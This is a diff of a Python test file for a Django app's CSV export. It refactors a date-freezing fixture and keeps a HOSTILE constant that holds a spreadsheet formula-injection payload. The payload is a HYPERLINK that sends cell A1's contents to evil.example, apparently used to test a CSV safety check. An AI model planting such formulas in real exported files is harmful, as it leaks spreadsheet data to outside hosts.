@@ -10,11 +10,10 @@ import io
 from decimal import Decimal
 
 import pytest
-import time_machine
 from django.urls import reverse
 
 from sendfund.lib.csv import is_safe
-from tests.clock import on
+from tests.clock import frozen_on
 from tests.factories import FundingSourceFactory
 from tests.funding.factories import pupil_with_provision
 
@@ -23,10 +22,7 @@ TODAY = dt.date(2025, 11, 10)
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-@pytest.fixture(autouse=True)
-def _today():
-    with time_machine.travel(on(TODAY)):
-        yield
+_today = frozen_on(TODAY)
 
 
 @pytest.fixture
